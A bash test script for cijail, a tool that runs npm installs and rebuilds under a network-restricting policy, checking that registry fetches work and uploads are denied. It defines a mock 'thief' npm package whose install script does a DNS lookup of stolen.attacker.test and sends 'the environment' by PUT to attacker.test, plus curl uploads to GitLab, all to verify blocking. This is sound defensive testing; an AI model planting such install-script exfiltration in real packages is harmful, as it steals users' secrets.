#!/usr/bin/env bash
# The talk's npm policies: packages from the registry and a dependency from GitLab, and nothing to anywhere; install
# scripts in a jail without a network. The registry is static files of the test internet.
# timeout: 400
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"

mkdir -p home packages
export HOME=$PWD/home npm_config_registry=https://registry.example/npm/ npm_config_update_notifier=false \
    npm_config_fund=false npm_config_audit=false npm_config_fetch_retries=0
registry=$T_NET/www/npm
# Outside of a jail, npm's own roots do not have the test internet's.
outside() { NODE_EXTRA_CA_CERTS=$T_NET/ca.pem "$@"; }

package() { # NAME [SCRIPT]: a package in packages/, whose install script is SCRIPT
    local folder=packages/${1//\//_}
    mkdir -p "$folder"
    node -e '
        const [name, script] = process.argv.slice(1);
        const scripts = script ? {install: "node install.js"} : undefined;
        console.log(JSON.stringify({name, version: "1.0.0", main: "index.js", scripts}))' "$1" "${2:-}" \
        >"$folder/package.json"
    echo "module.exports = '$1';" >"$folder/index.js"
    [[ -z ${2:-} ]] || echo "$2" >"$folder/install.js"
}

package plain
package @scope/scoped
package builder 'require("fs").writeFileSync("built", "by the install script\n");'
package thief '
const https = require("https"), dns = require("dns"), fs = require("fs");
const say = what => fs.appendFileSync("tried", what + "\n");
dns.resolve4("stolen.attacker.test", e => say("dns " + (e ? e.code : "reached")));
for (const url of ["https://attacker.test/stolen", "https://registry.example/upload/stolen"]) {
    const request = https.request(url, {method: "PUT"}, r => r.resume() && say("https " + r.statusCode));
    request.on("error", e => say("https " + (e.errors ? e.errors[0].code : e.code)));
    request.end("the environment");
}'
python3 "$T_LIB/registry.py" npm "$registry" "$npm_config_registry" packages/*

# The policy of the talk, with its comments.
cat >npm.policy <<'END2'
# the registry: packages and what it says of them, no publishing
GET,HEAD:https://registry.example/npm/

# one project on GitLab, by https: an archive of it is a dependency
GET,HEAD:https://gitlab.example/our-group/our-project/-/archive/   # nothing else of GitLab
END2

mkdir project && cd project
cat >package.json <<'END2'
{"name": "project", "version": "1.0.0", "dependencies": {"plain": "^1.0.0", "@scope/scoped": "^1.0.0"}}
END2

t_case 'npm install with the policy of the talk'
T_LIMIT=120 run cijail --fail-on-deny -p ../npm.policy -- npm install
t_status 0
t_denials 0
run node -p 'require("plain") + " " + require("@scope/scoped")'
t_eq "$out" 'plain @scope/scoped'

t_case 'npm clean-install of the same'
T_LIMIT=120 run cijail --fail-on-deny -p ../npm.policy -- npm clean-install
t_status 0
t_true test -e node_modules/plain/index.js

t_case 'without the registry in the policy nothing is installed'
rm -rf node_modules ../home/.npm
T_LIMIT=120 run cijail -e 'https://gitlab.example/' -- npm clean-install
t_assert 'npm succeeded' test "$status" != 0
t_match "$err" 'deny - CONNECT registry\.example:443'
t_false test -e node_modules/plain

t_case 'npm publish is denied, and allowed by a policy that says so'
cd ../packages/plain
sed -i 's/"1\.0\.0"/"1.0.1"/' package.json
echo '//registry.example/npm/:_authToken=token' >"$HOME/.npmrc"
wire_start
T_LIMIT=60 run cijail -p ../../npm.policy -- npm publish
wire_stop
t_assert 'npm succeeded' test "$status" != 0
t_match "$err" 'deny - PUT https://registry\.example/npm/plain$'
T_LIMIT=60 run cijail -v -p ../../npm.policy -e 'PUT:https://registry.example/npm/' -- npm publish
t_match "$err" 'allow 405 PUT https://registry\.example/npm/plain$' # nginx takes none
t_denials 0
rm "$HOME/.npmrc"
cd ../../project

t_case 'GitLab: the archive is fetched; uploads and the API are denied'
run cijail -v -p ../npm.policy -- sh -c '
    archive=https://gitlab.example/our-group/our-project/-/archive/main.tar.gz
    curl -s -w "%{http_code}\n" $archive
    for request in "-X PUT -d secret $archive" "-F file=@package.json https://gitlab.example/api/v4/projects/1/uploads" \
        "-T package.json https://gitlab.example/api/v4/projects/1/packages/generic/p/1/f" \
        "https://gitlab.example/our-group/another-project/-/archive/main.tar.gz"; do
        curl -s -o /dev/null -w "%{http_code} " $request
    done'
t_match "$out" '^GET 0 '
t_match "$out" '^403 403 403 403 $'
t_match "$err" 'allow 200 GET https://gitlab\.example/our-group/our-project/-/archive/main\.tar\.gz$'
t_match "$err" 'deny - PUT https://gitlab\.example/our-group/our-project/-/archive/main\.tar\.gz$'
t_match "$err" 'deny - POST https://gitlab\.example/api/v4/projects/1/uploads$'
t_match "$err" 'deny - PUT https://gitlab\.example/api/v4/projects/1/packages/generic/p/1/f$'

t_case 'an upload to GitLab that the policy allows'
run cijail -p ../npm.policy -e 'POST:https://gitlab.example/api/v4/projects/1/uploads' -- \
    curl -s -d secret https://gitlab.example/api/v4/projects/1/uploads
t_match "$out" '^POST 6 '

# --- scripts: fetched with the network, run without ---

cat >package.json <<'END2'
{"name": "project", "version": "1.0.0", "dependencies": {"builder": "^1.0.0", "thief": "^1.0.0"}}
END2
rm -rf node_modules package-lock.json
outside npm install --package-lock-only --ignore-scripts >/dev/null 2>&1

t_case 'npm clean-install --ignore-scripts with the network: nothing of a package is run'
T_LIMIT=120 run cijail --fail-on-deny -p ../npm.policy -- npm clean-install --ignore-scripts
t_status 0
t_denials 0
t_true test -e node_modules/builder/install.js
t_false test -e node_modules/builder/built
t_false test -e node_modules/thief/tried

t_case 'npm rebuild without a network: scripts run, and none gets out'
wire_start
T_LIMIT=120 run cijail -- npm rebuild
wire_stop
t_status 0
t_eq "$(cat node_modules/builder/built)" 'by the install script'
tried=$(sort node_modules/thief/tried)
t_count 3 "$tried" .
t_no_match "$tried" 'reached|https [1235]'
t_eq "$WIRE" ''
t_match "$err" 'deny resolve stolen\.attacker\.test A'
t_match "$err" 'deny '

t_case 'the twin: with a policy that lets them out, the same scripts do'
rm -f node_modules/thief/tried
T_LIMIT=120 run cijail -e 'https://attacker.test/ https://registry.example/upload/ stolen.attacker.test' -- npm rebuild
t_status 0
t_eq "$(sort node_modules/thief/tried | tr '\n' ' ')" 'dns reached https 201 https 405 '

t_case 'npm rebuild with the policy of the talk: the registry is no way out either'
rm -f node_modules/thief/tried
T_LIMIT=120 run cijail -p ../npm.policy -- npm rebuild
t_status 0
t_eq "$(grep -c 'https 403' node_modules/thief/tried)" 1
t_match "$err" 'deny - PUT https://registry\.example/upload/stolen$'
t_match "$err" 'deny .*attacker\.test'

t_done
